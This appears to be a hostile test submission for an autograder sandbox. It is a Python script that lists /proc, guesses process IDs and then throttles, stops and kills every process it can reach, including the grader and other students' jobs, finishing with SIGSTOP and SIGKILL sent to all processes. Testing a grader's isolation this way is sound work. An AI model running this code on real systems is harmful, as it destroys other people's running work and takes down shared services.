# Hostile: lowers the limits and the priority of, stops and kills every process it can see or guess
# (its parent, the grader, classmates), then of its whole user and process group. The right Functions
# follow: it must keep full marks, and so must every classmate.
import os
import resource
import signal

me = os.getpid()
# its own threads' ids too (the cells run in a thread of their own): a kill() of any of them is its own
mine = {int(t) for t in os.listdir("/proc/self/task")}
seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("pids seen:", seen)
done = []
# (in a container its parent is outside its PID namespace: getppid() is 0, which kill() reads as its own
# process group, so it is left out)
for pid in sorted({*seen, os.getppid(), *range(1, 4096)} - {me, 0} - mine):
    for name, act in (("prlimit", lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3))),
                      ("setpriority", lambda p: os.setpriority(os.PRIO_PROCESS, p, 19)),
                      ("stop", lambda p: os.kill(p, signal.SIGSTOP)),
                      ("kill", lambda p: os.kill(p, signal.SIGKILL))):
        try:
            act(pid)
            done.append(f"{name} {pid}")
        except OSError:
            pass
for name, act in (("renice user", lambda: os.setpriority(os.PRIO_USER, 0, 19)),
                  ("renice group", lambda: os.setpriority(os.PRIO_PGRP, 0, 19)),
                  ("stop all", lambda: os.kill(-1, signal.SIGSTOP)),
                  ("kill all", lambda: os.kill(-1, signal.SIGKILL))):
    try:
        act()
        done.append(name)
    except OSError:
        pass
print("reached:", [d for d in done if not d.endswith(" 1")])
